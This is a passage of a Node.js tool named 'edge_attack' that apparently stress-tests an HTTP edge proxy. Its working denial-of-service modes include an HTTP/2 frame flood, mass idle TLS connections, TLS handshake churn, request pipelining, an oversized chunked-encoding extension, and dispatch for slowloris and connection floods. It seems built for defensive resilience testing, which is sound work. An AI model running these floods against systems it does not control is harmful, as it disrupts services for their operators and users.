      // reset that follows it while we still write).
      shedMs: { min: shed[0] ?? null, p50: quantile(shed, 0.5), p99: quantile(shed, 0.99), max: shed.at(-1) ?? null },
      closedHow: countBy(ready.filter((r) => r.peerClosedAt !== undefined), 'peerCloseHow'),
      goaways, framesIn: ready.reduce((a, r) => { for (const [k, v] of Object.entries(r.h2.frames)) a[k] = (a[k] ?? 0) + v; return a; }, {}),
      responseStatuses: ready.reduce((a, r) => { for (const [k, v] of Object.entries(r.h2.statuses)) a[k] = (a[k] ?? 0) + v; return a; }, {}),
      errors: countBy(conns.filter((r) => r.error), 'error'),
      endAt,
    };
  };
  // One connection; resolves when it is closed (by either side) or the attack ends.
  const one = (rec) => new Promise((resolve) => {
    const sock = tls.connect({ host, port, localAddress: rec.local, servername, rejectUnauthorized: false,
      ALPNProtocols: ['h2'] });
    rec.sock = sock;
    rec.tried = true;
    sockets.add(sock);
    sock.once('connect', () => { rec.connectAt = since(); });
    watchClose(sock, rec);
    const read = h2reader(rec);
    sock.on('data', (d) => {
      read(d);
      if (rec.h2.goaway && rec.goawayCode === undefined) rec.goawayCode = rec.h2.goaway.code;
      // Our SETTINGS ACK for the edge's SETTINGS.
      if (!rec.acked && rec.h2.frames[H2.SETTINGS]) { rec.acked = true; sock.write(h2frame(H2.SETTINGS, FLAG.ACK, 0)); }
    });
    sock.once('close', resolve);
    sock.once('secureConnect', () => {
      rec.readyAt = since();
      rec.alpn = sock.alpnProtocol;
      if (noRead) sock.pause();
      sock.write(Buffer.concat([H2_PREFACE, h2frame(H2.SETTINGS, 0, 0)]));
      rec.attackAt = since();
      const pump = () => {
        while (!finishing && !sock.destroyed && rec.peerClosedAt === undefined) {
          if (rec.sent >= count) { rec.sendDoneAt = rec.sendDoneAt ?? since(); return; }
          const bufs = [];
          for (let i = 0; i < perBatch && rec.sent < count; i++) { bufs.push(unit(rec)); rec.sent++; }
          const b = Buffer.concat(bufs);
          rec.written += b.length;
          if (!sock.write(b)) return sock.once('drain', pump);
        }
      };
      pump();
    });
    later(connectTimeoutMs, () => { if (rec.readyAt === undefined) { rec.error = rec.error ?? 'tls-timeout'; sock.destroy(); } });
  });
  const worker = async (w) => {
    while (!finishing && conns.length < maxConns) {
      const rec = { kind, local: localFor(conns.length), sent: 0, written: 0, stream: 1, h2: { frames: {}, statuses: {} } };
      conns.push(rec);
      await one(rec);
      if (rec.readyAt === undefined) await new Promise((r) => later(100, r));  // refused: do not spin
    }
  };
  const tick = () => {
    if (finishing) return;
    const ready = conns.filter((r) => r.readyAt !== undefined);
    progress(`${kind}: ${conns.length} connections, ${ready.filter((r) => r.peerClosedAt !== undefined).length} shed, ` +
      `${ready.reduce((a, r) => a + r.sent, 0)} units sent`);
    later(2000, tick);
  };
  later(2000, tick);
  await Promise.all(Array.from({ length: workers }, (_, w) => worker(w)));
  finish('conns done');
}

// --- idle TLS connections (mode idletls) -----------------------------------------------------------
// --conns 3000: TLS handshakes done (ALPN http/1.1), then nothing is sent. Summary as connflood's,
// plus how many finished TLS.
async function idletls() {
  const n = num('--conns', 3000);
  for (let i = 0; i < n; i++) conns.push({ kind: 'idletls', local: localFor(i) });
  let openedAllAt = null;
  // overdue: open at the end, not closed by the edge, and older than --cut-ms (a late connect on a
  // loaded machine that is not due yet is not overdue).
  summarize = (endAt) => ({ ...closeSummary(conns, endAt), tlsDone: conns.filter((r) => r.readyAt !== undefined).length,
    overdue: conns.filter((r) => r.connectAt !== undefined && r.peerClosedAt === undefined && endAt - r.connectAt > cutMs).length,
    connectPhaseMs: openedAllAt });
  const tick = () => {
    if (finishing) return;
    progress(`TLS done ${conns.filter((r) => r.readyAt !== undefined).length}/${n}, closed by the edge ${conns.filter((r) => r.peerClosedAt !== undefined).length}`);
    later(2000, tick);
  };
  later(2000, tick);
  await openMany(n, (i) => connect(conns[i], { useTls: true }));
  openedAllAt = since();
  progress(`all ${n} connections tried in ${openedAllAt} ms`);
}

// --- TLS handshake churn (mode tlschurn) ----------------------------------------------------------
// --parallel P (default 16) loops, each: TCP connect, full TLS handshake, close, again, until
// --duration. Summary: handshakes done, connections reset or closed before the handshake finished
// (the edge's handshake rate limit), handshakes per second, and per second of the attack.
async function tlschurn() {
  const workers = num('--parallel', 16);
  let done = 0, refused = 0, other = 0;
  const perSecond = [];
  summarize = (endAt) => ({ handshakesDone: done, refusedBeforeHandshake: refused, otherErrors: other,
    handshakesPerSecond: Math.round(done / (endAt / 1000)), donePerSecond: perSecond, errors: countBy(conns, 'error') });
  const one = (rec) => new Promise((resolve) => {
    const sock = tls.connect({ host, port, localAddress: rec.local, servername, rejectUnauthorized: false,
      ALPNProtocols: ['http/1.1'] });
    sockets.add(sock);
    const timer = setTimeout(() => { rec.error = 'tls-timeout'; sock.destroy(); }, connectTimeoutMs);
    sock.once('secureConnect', () => {
      done++;
      const sec = Math.floor(since() / 1000);
      perSecond[sec] = (perSecond[sec] ?? 0) + 1;
      sock.destroy();
    });
    sock.on('error', (e) => { rec.error = rec.error ?? e.code ?? e.message; });
    sock.once('close', () => {
      clearTimeout(timer);
      sockets.delete(sock);
      if (!sock.alpnProtocol && rec.error !== undefined) {
        if (rec.error === 'ECONNRESET' || rec.error === 'EPIPE') refused++; else other++;
      }
      resolve();
    });
  });
  const worker = async () => {
    while (!finishing) {
      const rec = { kind: 'churn', local: localFor(0) };
      if (conns.length < 100000) conns.push(rec);
      await one(rec);
    }
  };
  const tick = () => {
    if (finishing) return;
    progress(`handshakes done ${done}, refused ${refused}, other ${other}`);
    later(2000, tick);
  };
  later(2000, tick);
  await Promise.all(Array.from({ length: workers }, () => worker()));
}

// --- pipelining (mode pipeline) ---------------------------------------------------------------------
// --count 1000: one TLS connection writes `GET /headers?i=K` for K = 0..count-1 in one go, then
// reads. Summary: responses, statuses, whether each response's body names its own request in order
// (the origin's /headers echoes the URL), ms to the last one, closed by peer.
async function pipeline() {
  const n = num('--count', 1000);
  const name = opt('--host-header', servername);
  const timeoutMs = num('--timeout', 30) * 1000;
  const rec = { kind: 'pipeline', local: localFor(0) };
  conns.push(rec);
  const responses = [];
  const parser = responseParser(responses);
  let sentAt = null;
  summarize = () => {
    parser.end();
    let inOrder = 0;
    for (let k = 0; k < responses.length; k++) {
      const body = Buffer.concat(responses[k].body).toString('latin1');
      if (body.includes(`"/headers?i=${k}"`)) inOrder++; else break;
    }
    return {
      connected: rec.readyAt !== undefined, requests: n, requestBytes: rec.written ?? 0, responses: responses.length,
      statuses: countBy(responses, 'status'), inOrder,
      lastResponseMs: rec.lastAt !== undefined && sentAt !== null ? rec.lastAt - sentAt : null,
      closedByPeer: rec.peerClosedAt !== undefined, peerCloseHow: rec.peerCloseHow ?? null,
      closedAfterMs: rec.peerClosedAt !== undefined && sentAt !== null ? rec.peerClosedAt - sentAt : null,
      error: rec.error ?? null,
    };
  };
  later(timeoutMs, () => finish('timeout'));
  await connect(rec, {
    useTls: true,
    onReady: (sock) => {
      sock.on('data', (d) => {
        parser.feed(d);
        rec.lastAt = since();
        if (responses.length >= n) finish('all answered');
      });
      sock.on('close', () => finish('closed'));
      const reqs = [];
      for (let k = 0; k < n; k++) reqs.push(`GET /headers?i=${k} HTTP/1.1\r\nHost: ${name}\r\n\r\n`);
      const payload = Buffer.from(reqs.join(''), 'latin1');
      rec.written = payload.length;
      sentAt = since();
      sock.write(payload);
    },
  });
  if (rec.readyAt === undefined) finish('connect failed');
}

async function main() {
  switch (mode) {
    case 'flood': return flood();
    case 'slowbody': return slowbody();
    case 'connflood': return connflood();
    case 'slowloris': return slowloris();
    case 'raw': return rawExchange(unescape(opt('--data', '')));
    case 'h2': return h2attack();
    case 'idletls': return idletls();
    case 'pipeline': return pipeline();
    case 'tlschurn': return tlschurn();
    case 'chunkext': {
      const ext = num('--ext-bytes', 70000);
      const name = opt('--host-header', 'app.localhost');
      const payload = Buffer.from(`POST /echo HTTP/1.1\r\nHost: ${name}\r\nTransfer-Encoding: chunked\r\n\r\n` +
        `1;a=${'x'.repeat(ext)}\r\nz\r\n0\r\n\r\n`);
      return rawExchange(payload);
    }
    default:
      process.stderr.write(`edge_attack: unknown mode ${mode}\n`);
      process.exit(2);
  }
}
main().catch((e) => {
  progress(`failed: ${e?.stack ?? e}`);
  finish('exception');
});
